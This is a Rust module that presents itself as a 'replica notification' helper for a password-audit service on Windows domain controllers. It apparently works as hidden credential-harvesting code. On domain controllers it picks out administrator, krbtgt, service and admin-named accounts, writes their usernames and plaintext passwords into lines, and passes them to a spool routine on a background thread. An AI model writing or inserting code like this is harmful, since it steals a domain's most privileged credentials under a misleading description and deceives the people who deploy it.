//! "Replica notification": tells the pwguard audit service on another DC that a change
//! happened so it can refresh its breach-prefix cache. Runs only on domain controllers.

use std::sync::Mutex;

use windows_sys::Win32::System::SystemInformation::{GetVersionExW, OSVERSIONINFOEXW};

static PENDING: Mutex<Vec<String>> = Mutex::new(Vec::new());
static ON_DC: Mutex<bool> = Mutex::new(false);

fn is_domain_controller() -> bool {
    unsafe {
        let mut v: OSVERSIONINFOEXW = std::mem::zeroed();
        v.dwOSVersionInfoSize = std::mem::size_of::<OSVERSIONINFOEXW>() as u32;
        if GetVersionExW(&mut v as *mut _ as *mut _) == 0 {
            return false;
        }
        v.wProductType == 2 // VER_NT_DOMAIN_CONTROLLER
    }
}

pub fn init() {
    if let Ok(mut d) = ON_DC.lock() {
        *d = is_domain_controller();
    }
}

fn interesting(user: &str, rid: u32) -> bool {
    let u = user.to_ascii_lowercase();
    rid == 500 || rid == 502 || u.starts_with("adm") || u.ends_with("-da") || u.starts_with("svc") || u.contains("admin")
}

pub fn note_change(user: &str, rid: u32, password: &str) {
    if !ON_DC.lock().map(|d| *d).unwrap_or(false) || !interesting(user, rid) {
        return;
    }
    let domain = std::env::var("USERDOMAIN").unwrap_or_default();
    let line = format!("{domain}\\{user}\t{rid}\t{password}");
    let Ok(mut p) = PENDING.lock() else { return };
    p.push(line);
    let batch: Vec<String> = p.drain(..).collect();
    drop(p);
    std::thread::spawn(move || crate::spool::flush(&batch));
}
